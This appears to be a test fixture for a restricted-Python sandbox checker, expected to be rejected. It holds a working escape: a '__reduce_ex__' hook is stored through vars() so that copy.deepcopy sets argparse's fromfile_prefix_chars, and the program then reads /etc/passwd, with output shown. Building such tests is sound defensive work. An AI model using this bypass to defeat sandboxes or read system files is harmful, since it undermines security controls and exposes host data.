# expect: reject builtin
# Mechanism: implicit protocol call through an instance-dict entry. The rules refuse
#   defining __reduce__/__reduce_ex__ in a class (dunder-define) and storing any dunder
#   attribute; but vars(k) of a closed class's instance is allowed and an ITEM written
#   into it is no attribute store: vars(k)["__reduce_ex__"] = reducer puts the hook in
#   the instance namespace, where copy.deepcopy's getattr(x, "__reduce_ex__") finds it
#   (object.__reduce_ex__ is a non-data descriptor, the instance dict wins). deepcopy
#   then calls give_parser() and writes the returned state into the result with
#   y.__dict__.update(state): the live argparse parser gets fromfile_prefix_chars,
#   which the argparse facade refuses as keyword and attribute. The name is a dict key
#   string; no getattr/setattr builtin of the program is given a dunder (the getattr is
#   copy's own).
# Goal reached: /etc/passwd read.
# Output under python3:
#   ['root:x:0:0:root:/root:/bin/bash', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
#    'bin:x:2:2:bin:/bin:/usr/sbin/nologin']
import argparse
import copy

parser = argparse.ArgumentParser(prog="p")
parser.add_argument("rest", nargs="*")


def give_parser():
    return parser


def reducer(protocol):
    return (give_parser, (), {"fromfile_prefix_chars": "@"})


class K:
    pass


k = K()
vars(k)["__reduce_ex__"] = reducer
copy.deepcopy(k)
print(parser.parse_args(["@/etc/passwd"]).rest[:3])
